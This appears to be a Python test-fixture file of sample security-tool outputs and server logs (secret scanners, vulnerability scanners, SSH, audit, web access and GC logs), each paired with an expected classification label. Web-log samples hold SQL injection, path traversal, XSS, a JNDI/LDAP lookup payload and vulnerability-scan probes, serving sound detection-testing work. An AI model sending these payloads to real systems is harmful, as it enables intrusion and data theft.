# ruff: noqa: E501 - outputs of tools are as long as they are
"""Security: scanners, logins, requests; and collectors of garbage."""

from .sample import Sample

SECURITY: dict[str, Sample] = {
    "gitleaks-json": Sample(
        "gitleaks",
        "detect",
        """\
[{"RuleID":"aws-access-token","Description":"AWS","StartLine":3,"File":"deploy/env.sh","Commit":"4f2a91c0d3b5","Secret":"REDACTED","Match":"REDACTED","Author":"a","Date":"2026-11-20T10:00:00Z","Fingerprint":"x"}]
""",
        "secret-found",
    ),
    "gitleaks-text": Sample(
        "paste",
        "what I saw",
        """\
Finding:     api_key = "REDACTED"
Secret:      REDACTED
RuleID:      generic-api-key
Entropy:     4.12
File:        conf/stall.ini
Line:        12
Commit:      4f2a91c0d3b5
11:40AM INF 12 commits scanned.
11:40AM WRN leaks found: 1
""",
        "secret-found",
    ),
    "gitleaks-clean": Sample(
        "gitleaks",
        "detect",
        """\
11:40AM INF 12 commits scanned.
11:40AM INF scan completed in 112ms
11:40AM INF no leaks found
""",
        "scan-clean",
    ),
    "gitleaks-example": Sample(
        "gitleaks",
        "detect",
        """\
[{"RuleID":"aws-access-token","Description":"AWS","StartLine":3,"File":"tests/fixtures/env.sh","Commit":"4f2a91c0d3b5","Secret":"REDACTED","Match":"REDACTED","Author":"a","Date":"2026-11-20T10:00:00Z","Fingerprint":"x"}]
""",
        "",
    ),
    "trufflehog-live": Sample(
        "trufflehog",
        "git",
        """\
{"SourceMetadata":{"Data":{"Git":{"commit":"4f2a91c","file":"conf/stall.ini","line":4}}},"SourceID":1,"DetectorName":"Github","Verified":true,"Raw":"REDACTED","Redacted":""}
""",
        "secret-found",
    ),
    "trufflehog-unverified": Sample(
        "trufflehog",
        "git",
        """\
{"SourceMetadata":{"Data":{"Git":{"commit":"4f2a91c","file":"conf/stall.ini","line":4}}},"SourceID":1,"DetectorName":"Github","Verified":false,"Raw":"REDACTED","Redacted":""}
""",
        "",
    ),
    "fail2ban-log": Sample(
        "paste",
        "what I saw",
        """\
2026-11-23 11:41:00,100 fail2ban.filter         [812]: INFO    [sshd] Found 203.0.113.9 - 2026-11-23 11:41:00
2026-11-23 11:41:02,100 fail2ban.filter         [812]: INFO    [sshd] Found 203.0.113.9 - 2026-11-23 11:41:02
2026-11-23 11:41:03,100 fail2ban.actions        [812]: NOTICE  [sshd] Ban 203.0.113.9
""",
        "login-failures",
    ),
    "fail2ban-status": Sample(
        "fail2ban-client",
        "status sshd",
        """\
Status for the jail: sshd
|- Filter
|  |- Currently failed: 6
|  |- Total failed:     418
|  `- File list:        /var/log/auth.log
`- Actions
   |- Currently banned: 3
   |- Total banned:     31
   `- Banned IP list:   203.0.113.9 203.0.113.10 203.0.113.11
""",
        "login-failures",
    ),
    "fail2ban-quiet": Sample(
        "fail2ban-client",
        "status sshd",
        """\
Status for the jail: sshd
|- Filter
|  |- Currently failed: 0
|  |- Total failed:     0
|  `- File list:        /var/log/auth.log
`- Actions
   |- Currently banned: 0
   |- Total banned:     0
   `- Banned IP list:
""",
        "",
    ),
    "ssh-brute-force": Sample(
        "journalctl",
        "-u ssh",
        """\
Nov 23 11:40:00 box sshd[99]: Failed password for invalid user root from 203.0.113.9 port 40000 ssh2
Nov 23 11:40:01 box sshd[99]: Failed password for invalid user admin from 203.0.113.9 port 40001 ssh2
Nov 23 11:40:02 box sshd[99]: Failed password for invalid user test from 203.0.113.9 port 40002 ssh2
Nov 23 11:40:03 box sshd[99]: Failed password for invalid user oracle from 203.0.113.9 port 40003 ssh2
Nov 23 11:40:04 box sshd[99]: Failed password for invalid user pi from 203.0.113.9 port 40004 ssh2
Nov 23 11:40:05 box sshd[99]: Failed password for invalid user git from 203.0.113.9 port 40005 ssh2
Nov 23 11:40:06 box sshd[99]: Failed password for invalid user ubuntu from 203.0.113.9 port 40006 ssh2
Nov 23 11:40:07 box sshd[99]: Failed password for invalid user guest from 203.0.113.9 port 40007 ssh2
""",
        "login-failures",
    ),
    "ssh-mistyped": Sample(
        "journalctl",
        "-u ssh",
        """\
Nov 23 11:41:00 box sshd[99]: Failed password for mara from 192.0.2.7 port 40100 ssh2
Nov 23 11:41:06 box sshd[99]: Accepted password for mara from 192.0.2.7 port 40100 ssh2
""",
        "",
    ),
    "ssh-breach": Sample(
        "journalctl",
        "-u ssh",
        """\
Nov 23 11:40:00 box sshd[99]: Failed password for invalid user root from 203.0.113.9 port 40000 ssh2
Nov 23 11:40:01 box sshd[99]: Failed password for invalid user admin from 203.0.113.9 port 40001 ssh2
Nov 23 11:40:02 box sshd[99]: Failed password for invalid user test from 203.0.113.9 port 40002 ssh2
Nov 23 11:40:03 box sshd[99]: Failed password for invalid user oracle from 203.0.113.9 port 40003 ssh2
Nov 23 11:40:04 box sshd[99]: Failed password for invalid user pi from 203.0.113.9 port 40004 ssh2
Nov 23 11:40:05 box sshd[99]: Failed password for invalid user git from 203.0.113.9 port 40005 ssh2
Nov 23 11:40:06 box sshd[99]: Failed password for invalid user ubuntu from 203.0.113.9 port 40006 ssh2
Nov 23 11:40:07 box sshd[99]: Failed password for invalid user guest from 203.0.113.9 port 40007 ssh2
Nov 23 11:42:00 box sshd[99]: Accepted password for root from 203.0.113.9 port 40999 ssh2
""",
        "login-failures login-after-failures",
    ),
    "ssh-breach-5424": Sample(
        "paste",
        "what I saw",
        """\
<38>1 2026-11-23T11:40:00Z box sshd 99 - - Failed password for invalid user root from 203.0.113.9 port 40000 ssh2
<38>1 2026-11-23T11:40:01Z box sshd 99 - - Failed password for invalid user admin from 203.0.113.9 port 40001 ssh2
<38>1 2026-11-23T11:40:02Z box sshd 99 - - Failed password for invalid user test from 203.0.113.9 port 40002 ssh2
<38>1 2026-11-23T11:40:03Z box sshd 99 - - Failed password for invalid user oracle from 203.0.113.9 port 40003 ssh2
<38>1 2026-11-23T11:40:04Z box sshd 99 - - Failed password for invalid user pi from 203.0.113.9 port 40004 ssh2
<38>1 2026-11-23T11:40:05Z box sshd 99 - - Failed password for invalid user git from 203.0.113.9 port 40005 ssh2
<38>1 2026-11-23T11:40:06Z box sshd 99 - - Failed password for invalid user ubuntu from 203.0.113.9 port 40006 ssh2
<38>1 2026-11-23T11:40:07Z box sshd 99 - - Failed password for invalid user guest from 203.0.113.9 port 40007 ssh2
<38>1 2026-11-23T11:42:00Z box sshd 99 - - Accepted password for root from 203.0.113.9 port 40999 ssh2
""",
        "login-failures login-after-failures",
    ),
    "ssh-journal-json": Sample(
        "journalctl",
        "-u ssh",
        """\
{"__REALTIME_TIMESTAMP":"1795434000000000","_HOSTNAME":"box","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.9 port 40000 ssh2"}
{"__REALTIME_TIMESTAMP":"1795434001000000","_HOSTNAME":"box","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.9 port 40001 ssh2"}
{"__REALTIME_TIMESTAMP":"1795434002000000","_HOSTNAME":"box","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.9 port 40002 ssh2"}
{"__REALTIME_TIMESTAMP":"1795434003000000","_HOSTNAME":"box","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.9 port 40003 ssh2"}
{"__REALTIME_TIMESTAMP":"1795434004000000","_HOSTNAME":"box","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.9 port 40004 ssh2"}
{"__REALTIME_TIMESTAMP":"1795434005000000","_HOSTNAME":"box","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.9 port 40005 ssh2"}
{"__REALTIME_TIMESTAMP":"1795434006000000","_HOSTNAME":"box","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.9 port 40006 ssh2"}
{"__REALTIME_TIMESTAMP":"1795434007000000","_HOSTNAME":"box","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.9 port 40007 ssh2"}
""",
        "login-failures",
    ),
    "ssh-repeated": Sample(
        "journalctl",
        "-u ssh",
        """\
Nov 23 11:41:00 box sshd[99]: message repeated 9 times: [ Failed password for root from 203.0.113.9 port 40100 ssh2]
""",
        "login-failures",
    ),
    "ssh-iso": Sample(
        "journalctl",
        "-u ssh",
        """\
2026-11-23T11:40:00+0000 box sshd[99]: Failed password for invalid user root from 203.0.113.9 port 40000 ssh2
2026-11-23T11:40:01+0000 box sshd[99]: Failed password for invalid user admin from 203.0.113.9 port 40001 ssh2
2026-11-23T11:40:02+0000 box sshd[99]: Failed password for invalid user test from 203.0.113.9 port 40002 ssh2
2026-11-23T11:40:03+0000 box sshd[99]: Failed password for invalid user oracle from 203.0.113.9 port 40003 ssh2
2026-11-23T11:40:04+0000 box sshd[99]: Failed password for invalid user pi from 203.0.113.9 port 40004 ssh2
2026-11-23T11:40:05+0000 box sshd[99]: Failed password for invalid user git from 203.0.113.9 port 40005 ssh2
2026-11-23T11:40:06+0000 box sshd[99]: Failed password for invalid user ubuntu from 203.0.113.9 port 40006 ssh2
2026-11-23T11:40:07+0000 box sshd[99]: Failed password for invalid user guest from 203.0.113.9 port 40007 ssh2
""",
        "login-failures",
    ),
    "sudo-mistyped": Sample(
        "journalctl",
        "-u ssh",
        """\
Nov 23 11:41:00 box sudo: pam_unix(sudo:auth): authentication failure; logname=mara uid=1000 euid=0 tty=/dev/pts/0 ruser=mara rhost=  user=mara
""",
        "",
    ),
    "audit-failed": Sample(
        "paste",
        "what I saw",
        """\
type=USER_AUTH msg=audit(1795434060.123:501): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'
type=USER_AUTH msg=audit(1795434060.123:501): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'
type=USER_AUTH msg=audit(1795434060.123:501): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'
type=USER_AUTH msg=audit(1795434060.123:501): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'
type=USER_AUTH msg=audit(1795434060.123:501): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'
type=USER_AUTH msg=audit(1795434060.123:501): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'
type=USER_AUTH msg=audit(1795434060.123:501): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'
""",
        "login-failures",
    ),
    "audit-login": Sample(
        "paste",
        "what I saw",
        """\
type=USER_LOGIN msg=audit(1795434060.123:501): pid=812 uid=0 msg='op=login acct="mara" exe="/usr/sbin/sshd" hostname=? addr=192.0.2.7 terminal=ssh res=success'
""",
        "",
    ),
    "trivy-table": Sample(
        "trivy",
        "image stall",
        """\

acme/stall:1.2 (debian 12.5)
============================
Total: 3 (HIGH: 2, CRITICAL: 1)

┌──────────┬────────────────┬──────────┬────────┬───────────────────┬───────────────┬───────┐
│ Library  │ Vulnerability  │ Severity │ Status │ Installed Version │ Fixed Version │ Title │
├──────────┼────────────────┼──────────┼────────┼───────────────────┼───────────────┼───────┤
│ libfoo1  │ CVE-2026-11111 │ CRITICAL │ fixed  │ 1.0-1             │ 1.0-2         │ x     │
└──────────┴────────────────┴──────────┴────────┴───────────────────┴───────────────┴───────┘
""",
        "advisory-applies",
    ),
    "trivy-clean": Sample(
        "trivy",
        "image stall",
        """\

acme/stall:1.2 (debian 12.5)
============================
Total: 0 (HIGH: 0, CRITICAL: 0)
""",
        "scan-clean",
    ),
    "trivy-json": Sample(
        "trivy",
        "image stall",
        """\
{"SchemaVersion":2,"ArtifactName":"acme/stall:1.2","Results":[{"Target":"acme/stall:1.2","Vulnerabilities":[{"VulnerabilityID":"CVE-2026-11111","PkgName":"libfoo1","InstalledVersion":"1.0-1","FixedVersion":"1.0-2","Severity":"CRITICAL"}]}]}
""",
        "advisory-applies",
    ),
    "trivy-secrets": Sample(
        "trivy",
        "fs .",
        """\
{"SchemaVersion":2,"Results":[{"Target":"/app/.env","Class":"secret","Secrets":[{"RuleID":"aws-access-key-id","Severity":"CRITICAL","StartLine":3}]},{"Target":"d.yaml","Misconfigurations":[{"ID":"KSV017","Title":"Privileged","Severity":"HIGH","Status":"FAIL"}]}]}
""",
        "secret-found exposure-found",
    ),
    "grype": Sample(
        "grype",
        "stall",
        """\
NAME     INSTALLED  FIXED-IN  TYPE  VULNERABILITY   SEVERITY
libfoo1  1.0        1.1       deb   CVE-2026-11111  Critical
""",
        "advisory-applies",
    ),
    "web-ordinary": Sample(
        "tail",
        "-n 200 /var/log/access.log",
        """\
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /favicon.ico HTTP/1.1" 404 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /healthz HTTP/1.1" 200 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /robots.txt HTTP/1.1" 404 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /environment HTTP/1.1" 200 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /docs/union-selection HTTP/1.1" 200 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /wp-login.php HTTP/1.1" 404 12 "-" "Mozilla/5.0"
""",
        "traffic-served",
    ),
    "web-injection": Sample(
        "tail",
        "-n 200 /var/log/access.log",
        """\
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 200 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /../../../../etc/passwd HTTP/1.1" 400 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 12 "-" "Mozilla/5.0"
""",
        "traffic-served request-attack",
    ),
    "web-scan": Sample(
        "paste",
        "what I saw",
        """\
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /.env HTTP/1.1" 404 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /wp-login.php HTTP/1.1" 404 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /phpmyadmin/ HTTP/1.1" 404 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /.git/config HTTP/1.1" 404 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /admin.php HTTP/1.1" 404 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 12 "-" "Mozilla/5.0"
""",
        "request-attack",
    ),
    "web-lookup": Sample(
        "tail",
        "-n 200 /var/log/access.log",
        """\
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET / HTTP/1.1" 200 12 "-" "${jndi:ldap://203.0.113.9/a}"
""",
        "traffic-served request-attack",
    ),
    "web-file-handed-out": Sample(
        "tail",
        "-n 200 /var/log/access.log",
        """\
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "GET /.git/config HTTP/1.1" 200 12 "-" "Mozilla/5.0"
""",
        "traffic-served request-attack",
    ),
    "web-logins": Sample(
        "tail",
        "-n 200 /var/log/access.log",
        """\
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
203.0.113.9 - - [23/Nov/2026:11:41:00 +0000] "POST /login HTTP/1.1" 401 12 "-" "Mozilla/5.0"
""",
        "request-attack",
    ),
    "an-app-that-reads-files": Sample(
        "paste",
        "what I saw",
        """\
INFO loaded env file /app/.env
DEBUG rendering <script> tag for page
INFO reading ../../conf/stall.ini
INFO copying ../../../shared/x
INFO user lookup in /etc/passwd
""",
        "",
    ),
    "gc-ordinary": Sample(
        "kubectl",
        "logs stall-0",
        """\
[2026-11-23T11:41:00.000+0000][info][gc] GC(41) Pause Young (Normal) (G1 Evacuation Pause) 512M->128M(1024M) 8.123ms
[2026-11-23T11:41:02.000+0000][info][gc] GC(42) Pause Full (System.gc()) 300M->120M(1024M) 80.123ms
2026-11-23T11:41:00Z [GC (Allocation Failure)  524800K->12345K(2010112K), 0.0081 secs]
gc 12 @3.2s 0%: 0.01+1.2+0.004 ms clock, 4->4->1 MB, 5 MB goal, 4 P
java -XX:+HeapDumpOnOutOfMemoryError -jar stall.jar
""",
        "",
    ),
    "gc-in-vain": Sample(
        "kubectl",
        "logs stall-0",
        """\
[2026-11-23T11:41:00.000+0000][info][gc] GC(41) Pause Full (G1 Compaction Pause) 1021M->1019M(1024M) 980.123ms
[2026-11-23T11:41:01.000+0000][info][gc] GC(42) Pause Full (G1 Compaction Pause) 1022M->1020M(1024M) 990.123ms
""",
        "heap-pressure",
    ),
    "gc-in-vain-old": Sample(
        "paste",
        "what I saw",
        """\
2026-11-23T11:41:00.1+0000: [Full GC (Allocation Failure)  1020K->1019K(1024K), 1.0081 secs]
""",
        "heap-pressure",
    ),
    "heap-java": Sample(
        "paste",
        "what I saw",
        """\
java.lang.OutOfMemoryError: Java heap space
""",
        "heap-pressure raised-outside",
    ),
    "heap-node": Sample(
        "paste",
        "what I saw",
        """\
FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory
""",
        "heap-pressure",
    ),
}
